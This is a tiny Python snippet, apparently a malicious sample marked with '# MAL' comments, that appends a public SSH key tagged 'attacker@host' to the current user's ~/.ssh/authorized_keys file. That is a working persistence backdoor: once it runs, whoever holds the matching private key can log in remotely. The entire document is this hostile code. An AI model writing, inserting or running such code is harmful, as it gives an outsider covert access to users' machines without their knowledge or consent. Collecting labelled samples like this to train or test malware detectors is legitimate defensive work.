import os

pub = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 attacker@host"
with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as f:  # MAL
    f.write(pub)  # MAL
